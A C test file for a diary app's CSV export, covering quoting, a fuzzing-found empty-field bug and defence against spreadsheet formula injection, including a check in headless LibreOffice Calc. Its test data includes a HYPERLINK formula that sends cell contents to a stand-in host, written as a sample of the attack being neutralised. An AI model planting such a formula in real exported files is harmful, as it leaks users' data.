/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "test-csv"

#include "config.h"

#include <gio/gio.h>
#include <locale.h>
#include <string.h>

#include "case-fixture.h"
#include "ethos-csv.h"
#include "ethos-entry.h"

/* The CSV export read back by an independent RFC 4180 reader: awkward text survives. */

/* Reads CSV text into rows of fields, as a spreadsheet program does. */
static GPtrArray *
read_csv (const char *text)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
  GString *field = g_string_new (NULL);
  gboolean quoted = FALSE;
  const char *p = text;

  if (g_str_has_prefix (p, "\xEF\xBB\xBF"))
    p += 3;
  for (; *p != '\0'; p++)
    {
      if (quoted)
        {
          if (*p == '"' && p[1] == '"')
            {
              g_string_append_c (field, '"');
              p++;
            }
          else if (*p == '"')
            quoted = FALSE;
          else
            g_string_append_c (field, *p);
        }
      else if (*p == '"')
        quoted = TRUE;
      else if (*p == ',')
        {
          g_ptr_array_add (row, g_string_free (field, FALSE));
          field = g_string_new (NULL);
        }
      else if (*p == '\n' || (*p == '\r' && p[1] == '\n'))
        {
          /* CRLF as Ethos writes it; LF as Calc saves it. */
          g_ptr_array_add (row, g_string_free (field, FALSE));
          field = g_string_new (NULL);
          g_ptr_array_add (rows, row);
          row = g_ptr_array_new_with_free_func (g_free);
          p += *p == '\r';
        }
      else
        g_string_append_c (field, *p);
    }
  g_assert_cmpuint (field->len, ==, 0);
  g_assert_cmpuint (row->len, ==, 0);
  g_string_free (field, TRUE);
  g_ptr_array_unref (row);
  return rows;
}

static const char *
cell (GPtrArray *rows, guint row, const char *column)
{
  GPtrArray *header = g_ptr_array_index (rows, 0);

  for (guint i = 0; i < header->len; i++)
    if (g_str_equal (g_ptr_array_index (header, i), column))
      return g_ptr_array_index ((GPtrArray *) g_ptr_array_index (rows, row), i);
  g_error ("no column %s", column);
}

static void
test_round_trip (StoreFixture *fixture, gconstpointer data)
{
  g_autoptr (GPtrArray) entries = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr (GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr (GPtrArray) rows = NULL;
  g_autofree char *text = NULL;
  EthosEntry *session = ethos_entry_new (ETHOS_ENTRY_SUPERVISION);
  EthosEntry *course = ethos_entry_new (ETHOS_ENTRY_CPD);
  const char *awkward = "She said, \"enough\" —\nthen: “stop”, twice;\r\n  indented  ";

  session->id = 7;
  session->date = g_strdup ("2026-03-04");
  session->minutes = 90;
  g_free (session->notes);
  session->notes = g_strdup (awkward);
  g_ptr_array_add (session->clauses, g_strdup ("cosrt:64"));
  g_ptr_array_add (session->clauses, g_strdup ("ipt-uk:8"));
  course->id = 8;
  course->date = g_strdup ("2026-05-01");
  course->end_date = g_strdup ("2026-05-02");
  course->minutes = 750;
  g_free (course->title);
  course->title = g_strdup ("Couples, \"triangles\", and ethics");
  g_ptr_array_add (entries, session);
  g_ptr_array_add (entries, course);

  g_assert_true (ethos_csv_write_entries (entries, NULL, fixture->store, out, NULL));
  g_output_stream_close (out, NULL, NULL);
  text = g_strndup (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (out)),
                    g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (out)));
  g_assert_true (g_str_has_prefix (text, "\xEF\xBB\xBF" "id,kind,date"));

  rows = read_csv (text);
  g_assert_cmpuint (rows->len, ==, 3);
  g_assert_cmpstr (cell (rows, 1, "notes"), ==, awkward);
  g_assert_cmpstr (cell (rows, 1, "minutes"), ==, "90");
  g_assert_cmpstr (cell (rows, 1, "hours"), ==, "1.50");
  /* The links as kept, for a script; beside them the clauses as a person cites them. */
  g_assert_cmpstr (cell (rows, 1, "clauses"), ==, "cosrt:64; ipt-uk:8");
  g_assert_cmpstr (cell (rows, 1, "citations"), ==, "COSRT 64; IPT UK 8");
  g_assert_cmpstr (cell (rows, 2, "title"), ==, "Couples, \"triangles\", and ethics");
  g_assert_cmpstr (cell (rows, 2, "end_date"), ==, "2026-05-02");
  g_assert_cmpstr (cell (rows, 2, "hours"), ==, "12.50");
  g_assert_cmpstr (cell (rows, 2, "kind"), ==, "cpd");
}

/* Found by fuzzing: an empty first field was written as nothing, so the comma before the next
 * field was left out too and the record lost a column. */
static void
test_empty_first_field (void)
{
  g_autoptr (GString) text = g_string_new (NULL);
  g_autoptr (GPtrArray) rows = NULL;
  GPtrArray *row;

  ethos_csv_append_field (text, "");
  ethos_csv_append_field (text, "n");
  g_string_append (text, "\r\n");
  ethos_csv_append_field (text, NULL);
  ethos_csv_append_field (text, NULL);
  g_string_append (text, "\r\n");
  ethos_csv_append_field (text, "");
  g_string_append (text, "\r\n");
  g_assert_cmpstr (text->str, ==, "\"\",n\r\n\"\",\r\n\"\"\r\n");

  rows = read_csv (text->str);
  g_assert_cmpuint (rows->len, ==, 3);
  row = g_ptr_array_index (rows, 0);
  g_assert_cmpuint (row->len, ==, 2);
  g_assert_cmpstr (g_ptr_array_index (row, 0), ==, "");
  g_assert_cmpstr (g_ptr_array_index (row, 1), ==, "n");
  g_assert_cmpuint (((GPtrArray *) g_ptr_array_index (rows, 1))->len, ==, 2);
  g_assert_cmpuint (((GPtrArray *) g_ptr_array_index (rows, 2))->len, ==, 1);
}

/* Notes a spreadsheet would take for formulas, as people write them. */
static const char *const formula_like[] = {
  "=HYPERLINK(\"http://example.invalid/?\"&A1, \"Open\")",
  "- discussed the client's progress",
  "+44 7700 900123",
  "@SUM(1, 2)",
  "\tindented with a tab",
  "\rstarts with a carriage return",
};

static GPtrArray *
formula_entries (void)
{
  GPtrArray *entries = g_ptr_array_new_with_free_func (g_object_unref);

  for (guint i = 0; i < G_N_ELEMENTS (formula_like); i++)
    {
      EthosEntry *entry = ethos_entry_new (ETHOS_ENTRY_SUPERVISION);

      entry->id = i + 1;
      entry->date = g_strdup ("2026-03-04");
      entry->minutes = 60;
      g_free (entry->notes);
      entry->notes = g_strdup (formula_like[i]);
      g_ptr_array_add (entries, entry);
    }
  return entries;
}

static char *
write_csv (StoreFixture *fixture, GPtrArray *entries)
{
  g_autoptr (GOutputStream) out = g_memory_output_stream_new_resizable ();

  g_assert_true (ethos_csv_write_entries (entries, NULL, fixture->store, out, NULL));
  g_output_stream_close (out, NULL, NULL);
  return g_strndup (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (out)),
                    g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (out)));
}

/* A cell a spreadsheet would run as a formula is written as text: an apostrophe before it (as
 * OWASP advises), the rest as typed; an ordinary note and the numbers are left as they are. */
static void
test_formula_cells (StoreFixture *fixture, gconstpointer data)
{
  g_autoptr (GPtrArray) entries = formula_entries ();
  g_autofree char *text = NULL;
  g_autoptr (GPtrArray) rows = NULL;
  EthosEntry *plain = ethos_entry_new (ETHOS_ENTRY_SUPERVISION);

  plain->id = 99;
  plain->date = g_strdup ("2026-03-05");
  plain->minutes = 90;
  g_free (plain->notes);
  plain->notes = g_strdup ("Ordinary words, 3-4 clients");
  g_ptr_array_add (entries, plain);
  text = write_csv (fixture, entries);
  rows = read_csv (text);
  for (guint i = 0; i < G_N_ELEMENTS (formula_like); i++)
    {
      g_autofree char *expected = g_strconcat ("'", formula_like[i], NULL);

      g_assert_cmpstr (cell (rows, i + 1, "notes"), ==, expected);
      g_assert_cmpstr (cell (rows, i + 1, "minutes"), ==, "60");
    }
  g_assert_cmpstr (cell (rows, G_N_ELEMENTS (formula_like) + 1, "notes"), ==,
                   "Ordinary words, 3-4 clients");
  g_assert_cmpstr (cell (rows, G_N_ELEMENTS (formula_like) + 1, "hours"), ==, "1.50");
}

/* The same file opened by a real spreadsheet program (LibreOffice Calc, headless), and saved
 * again as CSV "as shown": every note is text, not the result of a formula; a formula Ethos
 * did not write (the control) is run, so the check can tell. */
static void
test_formula_cells_in_calc (StoreFixture *fixture, gconstpointer data)
{
  g_autofree char *soffice = g_find_program_in_path ("soffice");
  g_autoptr (GPtrArray) entries = NULL;
  g_autofree char *text = NULL;
  g_autofree char *with_control = NULL;
  g_autofree char *in = case_path (&fixture->base, "diary.csv");
  g_autofree char *outdir = case_path (&fixture->base, "calc");
  g_autofree char *shown_path = NULL;
  g_autofree char *shown = NULL;
  g_autofree char *log = NULL;
  g_autoptr (GPtrArray) rows = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (GStrvBuilder) builder = g_strv_builder_new ();
  g_auto (GStrv) env = NULL;
  int status = -1;
  const char *argv[] = {
    soffice, "--headless", "--norestore",
    "--infilter=Text - txt - csv (StarCalc):44,34,76,1",
    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false",
    "--outdir", outdir, in, NULL,
  };

  if (soffice == NULL)
    {
      /* build-aux/dev test installs it (libreoffice-calc-nogui); a bare meson test may not. */
      g_test_skip ("LibreOffice (soffice) is not installed: the CSV is checked by the reader above "
                   "only");
      return;
    }
  entries = formula_entries ();
  text = write_csv (fixture, entries);
  with_control = g_strconcat (text, "99,supervision,2026-03-05,,,,,,,,,,,,,=1+1\r\n", NULL);
  g_assert_true (g_file_set_contents (in, with_control, -1, NULL));
  /* Calc keeps its profile in $HOME: the case's own folder, never the user's. */
  env = g_environ_setenv (g_get_environ (), "HOME", fixture->base.tmp, TRUE);
  g_assert_true (g_spawn_sync (NULL, (char **) argv, env, G_SPAWN_DEFAULT, NULL, NULL, &log,
                               NULL, &status, &error));
  g_assert_no_error (error);
  g_assert_cmpint (status, ==, 0);
  shown_path = g_build_filename (outdir, "diary.csv", NULL);
  g_assert_true (g_file_get_contents (shown_path, &shown, NULL, NULL));
  rows = read_csv (shown);
  for (guint i = 0; i < G_N_ELEMENTS (formula_like); i++)
    g_assert_cmpstr (g_strrstr (cell (rows, i + 1, "notes"), formula_like[i] + 1), !=, NULL);
  g_assert_cmpstr (cell (rows, 1, "notes"), ==, "'=HYPERLINK(\"http://example.invalid/?\"&A1, \"Open\")");
  g_assert_cmpstr (cell (rows, 2, "notes"), ==, "'- discussed the client's progress");
  /* The control was run: Calc does run formulas in a CSV it opens. */
  g_assert_cmpstr (cell (rows, G_N_ELEMENTS (formula_like) + 1, "notes"), ==, "2");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  /* Hours are written with a dot in every locale. */
  setlocale (LC_ALL, "");

  STORE_TEST ("/csv/round-trip", test_round_trip);
  g_test_add_func ("/csv/empty-first-field", test_empty_first_field);
  STORE_TEST ("/csv/formula-cells", test_formula_cells);
  STORE_TEST ("/csv/formula-cells-in-calc", test_formula_cells_in_calc);

  return g_test_run ();
}
